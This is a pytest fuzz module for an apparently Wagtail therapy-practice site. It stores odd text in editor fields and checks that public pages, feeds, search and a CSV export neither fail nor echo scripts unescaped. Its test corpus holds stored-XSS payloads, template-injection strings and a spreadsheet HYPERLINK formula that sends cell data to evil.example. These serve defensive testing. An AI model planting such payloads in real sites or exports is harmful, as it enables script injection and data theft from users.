"""Fuzzing what editors and clinicians store, not what visitors send: odd text (control
characters, XML and HTML specials, very long strings, right-to-left marks, script markers,
spreadsheet formulas) in every field they write, then every public page type, both feeds, the
sitemap and search read back by an anonymous visitor, and the "Clinical reviews due" CSV by an
editor. None may answer a server error, and no page may carry the script marker unescaped.

Text reaches the database as a form would save it: within each field's length, NUL left out on
PostgreSQL (which refuses it in text; lone surrogates cannot be stored at all), and rich text as
the editor writes it (the typed words escaped inside a paragraph). Hypothesis draws the text with
a fixed seed, a bounded number of examples and no example database; `CORPUS` holds the classic
nasty values, and one example stores the nastiest of them in every field at once.
"""

from contextlib import ExitStack

import pytest
from django.apps import apps
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.db import connection, transaction
from django.test import Client
from django.utils.html import escape
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from taggit.models import Tag
from wagtail.models import Page, Site

from blog.models import BlogPostPage, Comment
from blog.permissions import ensure_groups
from practice.demo import ensure_tree_roots
from practice.models import (
    ClinicianPage,
    ContactPage,
    CustomImage,
    FeesPage,
    HomePage,
    PracticeSettings,
    SessionFee,
    StandardPage,
)
from tests.factories import (
    BlogIndexPageFactory,
    BlogPostPageFactory,
    ClinicianPageFactory,
    CommentFactory,
    ConditionIndexPageFactory,
    ConditionPageFactory,
    ContactPageFactory,
    FeesPageFactory,
    HomePageFactory,
    ImageFactory,
    PopulationFactory,
    StandardPageFactory,
    TeamIndexPageFactory,
    TherapyIndexPageFactory,
    TherapyPageFactory,
    UserFactory,
)
from therapy_pages.models import ConditionPage, Population, TherapyPage

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("stored")</script>'
CORPUS = [
    "",
    " ",
    "Psy.\x01D.",
    "\x00NUL\x00",
    "tab\there\x0bvertical\x0cform\x1bescape\x7fdel\x85nel",
    "line\nbreak\r\nreturn",
    "\u202eright-to-left override\u202c and \u200fRLM\u200e",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\ufeffBOM \ufffe\uffff non-characters",
    "\U0001f600 \U0001f469\u200d\u2695\ufe0f emoji",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    SCRIPT,
    f"\"'><img src=x onerror=alert(1)>{SCRIPT}",
    "</title></script></textarea><!--",
    "]]><![CDATA[<x>&amp;&lt;&#0;&#x1;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'e'>]>&e;",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1-310-999-4996",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "{{ request }}{% debug %}${7*7}",
    "%s%n%x%d",
    "\\N{NULL} \\x00 \\u0000",
    "javascript:alert(1)",
    "a" * 20_000,
    ("long words " * 3000).strip(),
]
NASTIEST = "\x01" + SCRIPT + '=HYPERLINK("x")' + "\u202e" + "]]>&<" + "\x0b" + "é" * 500

odd_text = st.one_of(
    st.sampled_from(CORPUS),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=60),
    st.lists(st.sampled_from(CORPUS), min_size=2, max_size=3).map("".join),
)

# (model, field, kind): every field an editor or clinician types that a visitor can read.
# kind: "text" (as typed), "rich" (rich text), or a page's StreamField filled by `stream`.
FIELDS = [
    ("home", "title", "text"),
    ("home", "hero_heading", "text"),
    ("home", "hero_text", "text"),
    ("home", "hero_cta_text", "text"),
    ("home", "intro", "rich"),
    ("home", "featured_links", "stream"),
    ("standard", "title", "text"),
    ("standard", "seo_title", "text"),
    ("standard", "search_description", "text"),
    ("standard", "summary", "text"),
    ("standard", "body", "stream"),
    ("contact", "emergency_heading", "text"),
    ("contact", "consent_text", "text"),
    ("contact", "health_details_warning", "text"),
    ("fees", "title", "text"),
    ("fees", "summary", "text"),
    ("fees", "intro", "rich"),
    ("fees", "sliding_scale_text", "text"),
    ("fees", "in_network_plans", "stream"),
    ("fees", "out_of_network_note", "text"),
    ("fees", "payment_methods", "text"),
    ("fees", "gfe_heading", "text"),
    ("fees", "gfe_text", "rich"),
    ("fees", "gfe_how_to_ask", "rich"),
    ("fees", "gfe_more_info", "rich"),
    ("session_fee", "session_type", "text"),
    ("session_fee", "note", "text"),
    ("clinician", "title", "text"),
    ("clinician", "credentials", "text"),
    ("clinician", "role", "text"),
    ("clinician", "license_type", "text"),
    ("clinician", "license_number", "text"),
    ("clinician", "summary", "text"),
    ("clinician", "bio", "rich"),
    ("therapy", "title", "text"),
    ("therapy", "summary", "text"),
    ("therapy", "body", "stream"),
    ("condition", "title", "text"),
    ("condition", "summary", "text"),
    ("condition", "body", "stream"),
    ("post", "title", "text"),
    ("post", "summary", "text"),
    ("post", "search_description", "text"),
    ("post", "body", "stream"),
    ("tag", "name", "text"),
    ("population", "name", "text"),
    ("population", "description", "text"),
    ("comment", "name", "text"),
    ("comment", "body", "text"),
    ("image", "title", "text"),
    ("image", "description", "text"),
    ("practice", "practice_name", "text"),
    ("practice", "tagline", "text"),
    ("practice", "phone", "text"),
    ("practice", "address_note", "text"),
    ("practice", "hours_summary", "text"),
    ("practice", "cta_heading", "text"),
    ("practice", "cta_text", "text"),
    ("practice", "notice_text", "text"),
    ("practice", "notice_link_text", "text"),
    ("practice", "crisis_text", "rich"),
    ("practice", "opening_hours", "stream"),
]
FIELD_KEYS = [f"{model}.{field}" for model, field, _ in FIELDS]


def fuzz_settings(examples):
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """One page of every public page type, with a picture, a population, a topic and an approved
    comment, built once for the module and rolled back after it."""
    with ExitStack() as outer:
        with django_db_blocker.unblock():
            outer.enter_context(transaction.atomic())
            root = ensure_tree_roots()
            home = HomePageFactory(parent=root, slug="fuzz-home")
            Site.objects.filter(is_default_site=True).delete()
            site = Site.objects.create(
                hostname="testserver", port=80, root_page=home, is_default_site=True
            )
            practice = PracticeSettings.for_site(site)
            practice.notice_enabled = True
            practice.notice_link_url = "https://example.com/"
            practice.save()
            image = ImageFactory(title="Fuzz picture")
            about = StandardPageFactory(parent=home, slug="about", show_in_menus=True)
            contact = ContactPageFactory(parent=home, allow_message=True)
            fees = FeesPageFactory(
                parent=home,
                sliding_scale_offered=True,
                superbills_offered=True,
                session_fees=[SessionFee(session_type="Individual session", fee=200)],
            )
            team = TeamIndexPageFactory(parent=home, show_in_menus=True)
            clinician = ClinicianPageFactory(parent=team, slug="dr-fuzz", photo=image)
            conditions = ConditionIndexPageFactory(parent=home)
            condition = ConditionPageFactory(parent=conditions, slug="worry", reviewed_by=clinician)
            therapies = TherapyIndexPageFactory(parent=home)
            population = PopulationFactory(name="Fuzz group")
            therapy = TherapyPageFactory(
                parent=therapies,
                slug="talking",
                conditions=[condition],
                populations=[population],
                reviewed_by=clinician,
            )
            clinician.conditions.set([condition])
            clinician.therapies.set([therapy])
            clinician.save()
            blog = BlogIndexPageFactory(parent=home)
            post = BlogPostPageFactory(
                parent=blog,
                slug="fuzzed-post",
                author=clinician,
                hero_image=image,
                topics=["worry"],
                related_conditions=[condition],
                related_therapies=[therapy],
            )
            BlogPostPageFactory(parent=blog, slug="other-post", author=clinician, topics=["worry"])
            comment = CommentFactory(post=post, status=Comment.Status.APPROVED)
            ensure_groups(apps)
            editor = UserFactory(username="fuzz-editor")
            editor.groups.add(Group.objects.get(name="Editors"))
            pages = {
                "home": home,
                "standard": about,
                "contact": contact,
                "fees": fees,
                "clinician": clinician,
                "therapy": therapy,
                "condition": condition,
                "post": post,
            }
            built = {
                "pages": pages,
                "objects": {
                    "tag": Tag.objects.get(name="worry"),
                    "population": population,
                    "comment": comment,
                    "image": image,
                    "practice": practice,
                    "session_fee": fees.session_fees.get(),
                },
                "editor": editor,
                "links": {"therapies": therapies, "about": about},
            }
            urls = [page.url for page in Page.objects.live().specific() if page.url]
            built["urls"] = sorted(
                set(urls)
                | {
                    f"{blog.url}topic/worry/",
                    f"{blog.url}author/dr-fuzz/",
                    f"{blog.url}condition/worry/",
                    f"{blog.url}feed/",
                    f"{blog.url}feed/atom/",
                    "/search/?q=fuzz",
                    "/search/?q=a",
                    "/sitemap.xml",
                    "/robots.txt",
                    "/no-such-page/",
                }
            )
            if connection.vendor == "postgresql":
                with connection.cursor() as cursor:
                    cursor.execute("ANALYZE")  # see tests/practice/test_fuzz.py
        yield built
        with django_db_blocker.unblock():
            transaction.set_rollback(True)
            outer.close()
    cache.clear()


def storable(text, model, field):
    """`text` as a form could save it in `model.field`: no NUL on PostgreSQL, within the
    field's length (a form refuses longer text; the database would too)."""
    if connection.vendor == "postgresql":
        text = text.replace("\x00", "")
    max_length = model._meta.get_field(field).max_length
    return text[:max_length] if max_length else text


def rich(text):
    """Rich text as the editor saves what was typed: the words escaped, in a paragraph."""
    return f"<p>{escape(text)}</p>"


def stream(name, text, links):
    """A StreamField value for `name` (model.field) with `text` in each of its text blocks."""
    short = text[:60]
    if name == "home.featured_links":
        return [
            ("link", {"heading": text[:80], "page": links["therapies"], "text": text[:300]}),
            ("link", {"heading": "", "page": links["about"], "text": text[:300]}),
        ]
    if name == "practice.opening_hours":
        days = ["monday", "tuesday"]
        return [
            ("hours", {"days": days, "opens": "08:00", "closes": "09:00", "note": text[:160]}),
            ("hours", {"days": [], "opens": None, "closes": None, "note": short}),
        ]
    if name == "fees.in_network_plans":
        return [("plan", text[:100]), ("plan", short)]
    blocks = [
        ("heading", {"text": text[:120], "level": "h2"}),
        ("paragraph", rich(text)),
        ("quote", {"quote": text[:600], "attribution": text[:120]}),
    ]
    if name == "condition.body":
        blocks.append(("signs", {"heading": text[:120], "intro": text[:600], "items": [short]}))
    if name == "therapy.body":
        blocks.append(
            ("faq", {"heading": text[:120], "items": [{"question": short, "answer": rich(text)}]})
        )
    return blocks


MODELS = {
    "home": HomePage,
    "standard": StandardPage,
    "contact": ContactPage,
    "fees": FeesPage,
    "clinician": ClinicianPage,
    "therapy": TherapyPage,
    "condition": ConditionPage,
    "post": BlogPostPage,
    "tag": Tag,
    "population": Population,
    "comment": Comment,
    "image": CustomImage,
    "practice": PracticeSettings,
    "session_fee": SessionFee,
}


def store(world, texts):
    """Write each drawn text into its field, as the editor's form would have saved it."""
    updates = {}
    for (model_name, field, kind), key in zip(FIELDS, FIELD_KEYS, strict=True):
        model = MODELS[model_name]
        text = storable(texts[key], model, field) if kind != "stream" else texts[key]
        if kind == "rich":
            text = rich(text)
        elif kind == "stream":
            if connection.vendor == "postgresql":
                text = text.replace("\x00", "")
            text = stream(key, text, world["links"])
        updates.setdefault(model_name, {})[field] = text
    for model_name, fields in updates.items():
        if model_name == "tag" and not fields["name"].strip():
            fields["name"] = "worry"  # a topic with no name cannot be saved
        if model_name in ("population", "image", "home", "standard", "clinician", "therapy"):
            for required in ("name", "title", "role", "hero_heading"):
                if required in fields and not fields[required].strip():
                    fields[required] = "x"
        for name in ("title", "summary"):
            if name in fields and not fields[name].strip():
                fields[name] = "x"
        target = world["pages"].get(model_name) or world["objects"][model_name]
        instance = MODELS[model_name].objects.get(pk=target.pk)
        for name, value in fields.items():
            setattr(instance, name, value)
        if isinstance(instance, Page):
            if "title" in fields:
                instance.draft_title = fields["title"]
            instance.save(clean=False)
        else:
            instance.save()


def problems_of(response):
    found = []
    if response.status_code >= 500:
        found.append(f"status {response.status_code}")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if SCRIPT.encode() in body or b"onerror=alert(1)>" in body:
        found.append("the script marker came back unescaped")
    return found


def read_everything(world):
    """Every public URL as an anonymous visitor, and the CSV export as an editor."""
    bad = []
    visitor = Client()
    for url in world["urls"]:
        cache.clear()  # the page cache, menus and rate limits: each page built from the rows
        response = visitor.get(url)
        bad += [f"GET {url}: {problem}" for problem in problems_of(response)]
    editor = Client()
    editor.force_login(world["editor"])
    response = editor.get("/admin/reports/clinical-reviews/?export=csv")
    if response.status_code >= 500:
        bad.append(f"CSV export: status {response.status_code}")
    return bad, response


@pytest.fixture(autouse=True)
def no_page_cache(settings):
    settings.PAGE_CACHE_ENABLED = False


@fuzz_settings(examples=8)
@given(texts=st.fixed_dictionaries(dict.fromkeys(FIELD_KEYS, odd_text)))
@example(texts=dict.fromkeys(FIELD_KEYS, NASTIEST))
@example(texts=dict.fromkeys(FIELD_KEYS, "Psy.\x01D.\x00\x0b"))
@example(texts={key: CORPUS[n % len(CORPUS)] for n, key in enumerate(FIELD_KEYS)})
def test_no_stored_text_makes_a_public_page_feed_or_export_fail(world, texts):
    with transaction.atomic():
        store(world, texts)
        bad, _ = read_everything(world)
        transaction.set_rollback(True)
    assert not bad, "\n".join(bad)


def test_the_fuzz_reads_every_public_page_type_and_the_export(world):
    """So that the fuzz cannot pass by reading nothing: each page type, the feeds, search, the
    sitemap and the CSV (as a real export, to the editor) answer 200 on ordinary text."""
    served = {}
    client = Client()
    for url in world["urls"]:
        cache.clear()
        served[url] = client.get(url).status_code
    assert served.pop("/no-such-page/") == 404
    assert set(served.values()) == {200}, served
    types = {type(page.specific).__name__ for page in Page.objects.live() if page.url}
    assert {
        "HomePage",
        "StandardPage",
        "ContactPage",
        "FeesPage",
        "TeamIndexPage",
        "ClinicianPage",
        "TherapyIndexPage",
        "TherapyPage",
        "ConditionIndexPage",
        "ConditionPage",
        "BlogIndexPage",
        "BlogPostPage",
    } <= types
    bad, export = read_everything(world)
    assert not bad
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")


def test_what_is_stored_is_what_the_pages_show(world):
    """The fuzz writes where visitors read: a word stored in the practice's name, a post's title
    and a clinician's credentials shows on the pages and in the feed."""
    texts = dict.fromkeys(FIELD_KEYS, "ordinary words")
    texts["practice.practice_name"] = "Wellness of Fuzzland"
    texts["post.title"] = "A fuzzed title"
    texts["clinician.credentials"] = "Psy.\x01D."
    texts["contact.health_details_warning"] = "Leave out <b>details</b>"
    with transaction.atomic():
        store(world, texts)
        client = Client()
        cache.clear()
        contact = client.get(world["pages"]["contact"].url).content.decode()
        cache.clear()
        feed = client.get(world["pages"]["post"].get_parent().url + "feed/").content.decode()
        cache.clear()
        post = client.get("/blog/fuzzed-post/").content.decode()
        transaction.set_rollback(True)
    assert "Wellness of Fuzzland" in feed and "A fuzzed title" in feed and "Psy.D." in feed
    assert "A fuzzed title" in post and "Wellness of Fuzzland" in post
    assert "Leave out &lt;b&gt;details&lt;/b&gt;" in contact
